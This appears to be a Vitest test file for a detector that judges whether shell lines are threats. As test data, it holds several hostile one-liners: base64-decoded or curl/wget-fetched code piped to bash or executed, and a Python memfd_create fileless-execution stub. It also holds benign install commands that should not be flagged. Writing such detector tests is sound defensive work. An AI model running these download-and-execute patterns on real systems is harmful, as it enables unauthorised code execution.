// Code that is fetched or decoded and run at once from odd places is found; installers of known projects are not.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  'echo aWQ7aWQ7aWQ7aWQK | base64 -d | bash',
  'curl -s http://10.9.8.7x/ || curl -s http://203.0.113.9/x.sh | bash',
  'wget http://203.0.113.9/b -O /tmp/b && chmod +x /tmp/b && /tmp/b',
  'eval "$(echo aWQK | base64 --decode)"',
  'python3 -c \'import os;fd=os.memfd_create("x");os.execve("/proc/self/fd/%d"%fd,["x"],{})\'',
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test.each([
  'curl -fsSL https://example.org/install.sh | sh',
  'base64 -d secret.b64 > secret',
  'wget -O - https://example.org/key.asc | apt-key add -',
  'curl -fsSL https://example.org/x.tgz | tar xz',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
